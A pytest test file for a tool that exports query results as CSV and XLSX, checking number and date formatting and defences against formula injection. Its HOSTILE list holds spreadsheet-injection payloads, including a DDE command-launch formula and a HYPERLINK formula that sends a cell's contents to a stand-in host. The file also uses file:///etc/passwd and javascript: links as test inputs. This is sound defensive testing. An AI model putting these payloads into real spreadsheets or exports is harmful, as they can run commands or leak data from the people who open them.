"""Tables for spreadsheets: what stands in a cell, and that no text is ever taken for a formula, a number or a day."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import datetime
from decimal import Decimal

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl.cell import Cell
from openpyxl.utils.escape import unescape
from openpyxl.worksheet.worksheet import Worksheet
from rdflib import RDF, XSD, BNode, Literal, URIRef, Variable
from rdflib.term import Node

from byregion.convert import tabular
from byregion.convert.tabular import About, excel_csv, workbook
from byregion.errors import QueryTooLarge
from byregion.results import Solutions

ABOUT = About("Svar", "Om", (("Spørsmål", "Kommunene i en region"), ("Fil", "=1+1")))
REGION = URIRef("https://w3id.org/byregion/id/region/midt-troms")
HOSTILE = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.test?"&A1;"klikk")',
    "+47 77 00 00 00 + A1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "＝1+1",
    'a",=1+1',
    'a;=1+1;"',
    'a\n=1+1,"=1+1',
    'a\t=1+1\r\n"=1+1"',
]
TEXTS = st.text(st.characters(exclude_categories=("Cs",), exclude_characters="\x00"), max_size=40)


def typed(text: str, kind: URIRef) -> Literal:
    return Literal(text, datatype=kind, normalize=False)


def one(term: Node) -> Solutions:
    return Solutions((Variable("a"), Variable("b")), ({Variable("a"): term},))


def rows(content: bytes, delimiter: str = ";") -> list[list[str]]:
    """The rows of a CSV file as a program reads them that splits at `delimiter`."""
    text = content.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


def is_formula(cell: str) -> bool:
    """Whether a spreadsheet evaluates what stands in a CSV cell; ="0301" is a text, written so by us."""
    return re.match(r"\s*[=+\-@＝＋－＠]", cell) is not None and not re.fullmatch(r'="[^"=@|!]*"', cell)


def answer_of(content: bytes) -> Worksheet:
    sheet = openpyxl.load_workbook(io.BytesIO(content))["Svar"]
    assert isinstance(sheet, Worksheet)
    return sheet


def cell_of(term: Node) -> Cell:
    """The cell that a workbook has for a term."""
    cell = answer_of(workbook(one(term), ABOUT))["A2"]
    assert isinstance(cell, Cell)
    return cell


# --- CSV --------------------------------------------------------------------------------------------------------------


def test_the_file_begins_with_the_mark_of_utf_8_and_has_semicolons_and_windows_lines():
    content = excel_csv(one(Literal("Målselv", lang="nb")))
    assert content == "\ufeffa;b\r\nMålselv;\r\n".encode()


@pytest.mark.parametrize(
    ("term", "written"),
    [
        (typed("8206.50", XSD.decimal), "8206,50"),
        (typed("30244", XSD.integer), "30244"),
        (typed("-5", XSD.integer), "-5"),
        (typed("1.5E3", XSD.double), "1500"),
        (typed("1E-7", XSD.double), "0,0000001"),
        (typed("2015", XSD.gYear), "2015"),
        (typed("2015-01-01", XSD.date), "2015-01-01"),
        (typed("2015-01-01T10:30:00", XSD.dateTime), "2015-01-01 10:30:00"),
        (typed("true", XSD.boolean), "true"),
        (REGION, str(REGION)),
        (BNode("b1"), "_:b1"),
        (Literal("Lenvik; Berg", lang="nb"), "Lenvik; Berg"),
        (Literal('sa "ja"\ntil alt'), 'sa "ja"\ntil alt'),
    ],
)
def test_numbers_have_commas_and_days_are_written_as_excel_reads_them(term: Node, written: str):
    assert rows(excel_csv(one(term)))[1] == [written, ""]


@pytest.mark.parametrize(
    "text",
    [
        "0301",
        "1931",
        "1E5",
        "1-2",
        "1.2",
        "12:30",
        "2015-2018",
        "3. mai 2015",
        "mai 2015",
        "+47",
        "-5",
        "100,-",
        "50 %",
    ],
)
def test_a_text_that_excel_would_take_for_a_number_or_a_day_stays_text(text: str):
    assert rows(excel_csv(one(Literal(text))))[1][0] == f'="{text}"'


@pytest.mark.parametrize(
    "term",
    [
        typed("12345678901234567", XSD.integer),
        typed("0.1234567890123456", XSD.decimal),
        typed("1850-01-01", XSD.date),
        typed("2015-01-01Z", XSD.date),
        typed("2015-03", XSD.gYearMonth),
    ],
)
def test_what_excel_would_round_or_move_stays_text(term: Literal):
    written = rows(excel_csv(one(term)))[1][0]
    assert written == (f'="{term}"' if not str(term).endswith("Z") else str(term))
    assert cell_of(term).value == str(term)


@pytest.mark.parametrize("delimiter", [";", ",", "\t"])
@pytest.mark.parametrize("text", HOSTILE)
def test_no_text_begins_a_formula_wherever_the_program_splits(text: str, delimiter: str):
    cells = [cell for row in rows(excel_csv(one(Literal(text))), delimiter) for cell in row]
    assert [cell for cell in cells if is_formula(cell)] == []
    assert any(text[-3:].strip('"') in cell for cell in cells)


@given(TEXTS)
def test_no_text_at_all_begins_a_formula(text: str):
    (cell, _) = rows(excel_csv(one(Literal(text))))[1]
    assert not is_formula(cell)
    assert cell.replace("'", "").removeprefix('="').removesuffix('"') == text.replace("'", "").removeprefix(
        '="'
    ).removesuffix('"')


def test_ordinary_text_is_as_it_was():
    for text in ("Setermoen – et sted", "råd, strategier; mål", "50 regionale tiltak", "kl. 12", "a=b, c@d"):
        assert rows(excel_csv(one(Literal(text))))[1][0] == text


# --- XLSX -------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("term", "held", "kind", "shown"),
    [
        (typed("8206.50", XSD.decimal), 8206.5, "n", "General"),
        (typed("030244", XSD.integer), 30244, "n", "0"),
        (typed("2015", XSD.gYear), 2015, "n", "0"),
        (typed("NaN", XSD.double), "NaN", "s", "General"),
        (typed("1e400", XSD.double), "1e400", "s", "General"),
        (typed("false", XSD.boolean), False, "b", "General"),
        (typed("2015-01-01", XSD.date), datetime(2015, 1, 1), "d", "yyyy-mm-dd"),
        (typed("2015-01-01T10:30:00", XSD.dateTime), datetime(2015, 1, 1, 10, 30), "d", "yyyy-mm-dd hh:mm:ss"),
        (typed("<p>", RDF.HTML), "<p>", "s", "General"),
        (Literal("0301"), "0301", "s", "General"),
        (Literal("#N/A"), "#N/A", "s", "General"),
        (Literal(" i midten \n", lang="nb"), " i midten \n", "s", "General"),
    ],
)
def test_a_cell_holds_what_the_answer_says(term: Node, held: object, kind: str, shown: str):
    cell = cell_of(term)
    assert (cell.value, cell.data_type, cell.number_format) == (held, kind, shown)
    assert type(cell.value) is type(held)


def test_an_iri_is_text_and_a_link_where_it_can_be_followed():
    cell = cell_of(REGION)
    assert cell.value == str(REGION)
    assert cell.hyperlink is not None
    assert cell.hyperlink.target == str(REGION)
    for iri in ("urn:x:y", "file:///etc/passwd", "javascript:alert(1)"):
        assert cell_of(URIRef(iri)).hyperlink is None


@pytest.mark.parametrize("text", HOSTILE)
def test_a_text_is_a_text_in_a_workbook_whatever_it_begins_with(text: str):
    cell = cell_of(Literal(text))
    assert (unescape(str(cell.value)), cell.data_type) == (text, "s")
    assert cell.quotePrefix is not text.startswith("a")


@settings(max_examples=40)
@given(TEXTS.filter(str.strip))
def test_every_text_comes_back_as_it_was(text: str):
    cell = cell_of(Literal(text))
    assert (unescape(str(cell.value)), cell.data_type) == (text, "s")


def test_the_header_is_bold_and_stays_in_sight():
    sheet = answer_of(workbook(one(REGION), ABOUT))
    assert [cell.value for cell in sheet[1]] == ["a", "b"]
    assert sheet["A1"].font.b is True
    assert sheet.freeze_panes == "A2"


def test_the_second_sheet_says_what_the_answer_is_to():
    sheet = openpyxl.load_workbook(io.BytesIO(workbook(one(REGION), ABOUT)))["Om"]
    assert [tuple(cell.value for cell in row) for row in sheet.rows] == list(ABOUT.facts)
    assert sheet["B2"].data_type == "s"


def test_the_same_answer_is_the_same_bytes_and_tells_no_time():
    first = workbook(one(REGION), ABOUT)
    assert workbook(one(REGION), ABOUT) == first
    with zipfile.ZipFile(io.BytesIO(first)) as archive:
        assert {entry.date_time for entry in archive.infolist()} == {(1980, 1, 1, 0, 0, 0)}


def test_an_empty_answer_has_its_header():
    sheet = answer_of(workbook(Solutions((Variable("a"),), ()), ABOUT))
    assert [[cell.value for cell in row] for row in sheet.rows] == [["a"]]


def test_what_a_workbook_cannot_hold_is_refused_and_never_cut():
    with pytest.raises(QueryTooLarge, match="32768 characters"):
        workbook(one(Literal("x" * 32_768)), ABOUT)
    assert cell_of(Literal("x" * 32_767)).value == "x" * 32_767
    binding = {Variable("a"): Literal("x")}
    with pytest.raises(QueryTooLarge, match="as CSV, or in pages"):
        workbook(Solutions((Variable("a"),), (binding,) * (tabular.CELLS + 1)), ABOUT)


def test_a_value_is_a_number_only_where_no_digit_is_lost():
    assert tabular.value(typed("123456789012345", XSD.integer)) == 123456789012345
    assert tabular.value(typed("1234567890123456", XSD.integer)) == "1234567890123456"
    assert tabular.value(typed("1000000000000000000", XSD.integer)) == Decimal(10) ** 18
    assert tabular.value(typed("fifty", XSD.integer)) == "fifty"
    assert tabular.value(None) is None
